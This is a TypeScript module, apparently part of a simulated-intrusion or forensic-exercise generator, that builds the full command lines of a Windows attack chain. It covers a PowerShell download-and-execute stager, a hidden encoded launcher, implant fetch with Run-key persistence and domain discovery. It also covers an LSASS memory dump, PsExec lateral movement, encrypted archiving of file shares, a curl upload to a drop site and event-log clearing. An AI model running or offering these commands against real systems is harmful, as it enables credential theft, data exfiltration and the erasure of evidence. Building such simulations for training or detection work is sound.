import type { Cast } from './cast';

/** Paths and command lines of the intrusion: written once, played by the acts and quoted by the truth. */
export const STAGE = 'C:\\ProgramData\\mon\\';

export function downloads(cast: Cast): string {
  return `C:\\Users\\${cast.patient.owner.login}\\Downloads\\`;
}

export function implantPath(cast: Cast): string {
  return `C:\\Users\\${cast.patient.owner.login}\\AppData\\Roaming\\SyncHost\\synchost.exe`;
}

export const IMPLANT_ON_TARGET = 'C:\\Windows\\synchost.exe';

export const STAGER_PATH = '/assets/news.txt';
export const PAYLOAD_PATH = '/assets/update.bin';

export function stagerUrl(cast: Cast): string {
  return `http://${cast.stager.host}${STAGER_PATH}`;
}

export function stagerScript(cast: Cast): string {
  return `$c=New-Object Net.WebClient;IEX $c.DownloadString('${stagerUrl(cast)}')`;
}

/** What the first script brings and runs: fetch the implant, start it. */
export function payloadScript(cast: Cast): string {
  return [
    '$p="$env:APPDATA\\SyncHost"', 'mkdir $p -Force|Out-Null', `(New-Object Net.WebClient).DownloadFile('http://${cast.stager.host}${PAYLOAD_PATH}',"$p\\synchost.exe")`,
    "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name SyncHost -Value \"$p\\synchost.exe\"", 'Start-Process "$p\\synchost.exe"',
  ].join(';');
}

export function encodedCommand(cast: Cast): string {
  const bytes = Array.from(stagerScript(cast), (letter) => `${letter}\0`).join('');
  return `powershell.exe -NoP -W Hidden -Exec Bypass -Enc ${btoa(bytes)}`;
}

export const DISCOVERY = ['whoami  /all', 'systeminfo', 'net  group "Domain Admins" /domain', 'nltest  /domain_trusts /all_trusts', 'tasklist  /svc'] as const;

export function dumpCommand(lsassPid: number, name: string): string {
  return `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${lsassPid} ${STAGE}${name} full`;
}

export function psexecImplant(cast: Cast, target: string): string {
  return `${STAGE}PsExec64.exe \\\\${target} -accepteula -s -d -c ${implantPath(cast)}`;
}

export function psexecShell(target: string): string {
  return `${STAGE}PsExec64.exe \\\\${target} -accepteula -s cmd.exe`;
}

export const ARCHIVE_FILE = `${STAGE}k0112.7z`;
export const ARCHIVE_COMMAND = `${STAGE}7za.exe a -t7z -mx1 -mhe=on -pKx93mTq ${ARCHIVE_FILE} D:\\Shares\\keiri D:\\Shares\\jinji`;

export function uploadCommand(cast: Cast): string {
  return `curl.exe -k -s -T ${ARCHIVE_FILE} https://${cast.dropSite.host}/u/k0112.7z`;
}

export const CLEAR_COMMANDS = ['wevtutil  cl Security', 'wevtutil  cl System'] as const;
